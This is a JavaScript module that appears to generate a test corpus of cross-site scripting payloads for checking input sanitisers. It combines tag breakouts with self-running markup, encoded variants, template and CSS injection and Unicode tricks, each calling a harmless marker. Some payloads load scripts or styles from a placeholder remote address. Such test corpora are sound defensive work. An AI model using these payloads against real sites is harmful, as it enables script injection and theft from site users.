// @ts-check
// What somebody types who wants a program of theirs to run in the browser of another: generated from parts, each calling
// `__ran(number)`, beside the public list of naughty strings (S01).
import { createRequire } from 'node:module';

/** @type {readonly string[]} */
const naughty = createRequire(import.meta.url)('big-list-of-naughty-strings');

/** Ways out of the place where the text stands. */
const outs = ['', '">', "'>", '</textarea>', '</title>', '</script>', '-->', '</option></select>'];

/** Markup that runs something by itself. */
const runs = [
  '<script>CALL</script>',
  '<img src=x onerror=CALL>',
  '<svg onload=CALL>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s>',
  '<details open ontoggle=CALL>',
  '<input autofocus onfocus=CALL>',
  '<video src=x onerror=CALL></video>',
  '<iframe srcdoc="&lt;script&gt;parent.CALL&lt;/script&gt;"></iframe>',
  '<object data="javascript:CALL"></object>',
  '<meta http-equiv=refresh content="0;url=javascript:CALL">',
  '<base href="http://192.0.2.1/"><script src=/x.js></script>',
  '<link rel=stylesheet href="http://192.0.2.1/x.css">',
  '<math><mtext><table><mglyph><style><img src=x onerror=CALL></style></mglyph></table></mtext></math>',
  '<form action="javascript:CALL"><button autofocus onfocus=CALL>x</button></form>',
  '<a href="javascript:CALL" id=x tabindex=1 autofocus onfocus=CALL>x</a>',
  '<template><script>CALL</script></template><slot onslotchange=CALL></slot>',
];

/** Without a tag of their own. */
const others = [
  ...['"', "'", '`'].flatMap((quote) => ['onfocus=CALL autofocus x=', 'onmouseover=CALL x=', 'style=animation-name:x onanimationstart=CALL x=', 'srcdoc=<script>CALL</script> x='].map((rest) => `${quote} ${rest}${quote}`)),
  ...['javascript:CALL', 'JaVaScRiPt:CALL', 'java\tscript:CALL', 'javascript&colon;CALL', '&#106;avascript:CALL', 'data:text/html,<script>CALL</script>', 'vbscript:CALL', 'blob:CALL', ' javascript:CALL', '\u0001javascript:CALL'],
  ...['"}});CALL;//', '\\"});CALL;//', '\\u003cscript\\u003eCALL\\u003c/script\\u003e', '"]\n</script><script>CALL</script>', '\u2028CALL\u2029', '<!--<script>', '<!--<script>CALL//', '{"__html":"<img src=x onerror=CALL>"}', '{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"CALL"}}}'],
  ...['</style><script>CALL</script>', '}*{background:url(http://192.0.2.1/x)}', 'expression(CALL)', '@import "http://192.0.2.1/x.css";', 'x:url(javascript:CALL)', '--x:}</style><img src=x onerror=CALL>'],
  ...['{{constructor.constructor("CALL")()}}', '${CALL}', '#{CALL}', '<%= CALL %>', '{{=CALL}}', '$t(common:skip)', '<0>CALL</0>', '<bdi>CALL</bdi>', '[x](javascript:CALL)', '![x](x"onerror=CALL)'],
  ...['\u202E>tpircs/<LLAC>tpircs<', '\u2066<img src=x onerror=CALL>\u2069', '\u202E"onfocus=CALL autofocus x="', '\u200F<svg onload=CALL>\u200E', '<img\u202E src=x onerror=CALL>', '\uFEFF<script>CALL</script>'],
  ...['＜script＞CALL＜/script＞', '<\u0000script>CALL</script>'.replace('\u0000', '\u000c'), '<scr<script>ipt>CALL</scr</script>ipt>', '<IMG """><SCRIPT>CALL</SCRIPT>">', '<svg/onload=CALL//', '<x onclick=CALL tabindex=1 id=y>#y', '%3Cscript%3ECALL%3C/script%3E', '&lt;script&gt;CALL&lt;/script&gt;', '&#60;img src=x onerror=CALL&#62;', '\\x3cscript\\x3eCALL\\x3c/script\\x3e', '<a href="//192.0.2.1">x</a>', '<img src="http://192.0.2.1/x.png">', 'http://192.0.2.1/', "';CALL;'", '";CALL;"', '`${CALL}`', '</p></div></main></body></html><script>CALL</script>', '<plaintext>', '<noscript><img src=x onerror=CALL></noscript>', '<xmp><script>CALL</script></xmp>'],
];

export const ownPayloads = [...outs.flatMap((out) => runs.map((run) => out + run)), ...others].map((text, number) => text.replaceAll('CALL', `__ran(${number})`));

/** All of them: those of the list first. */
export const payloads = [...naughty, ...ownPayloads];
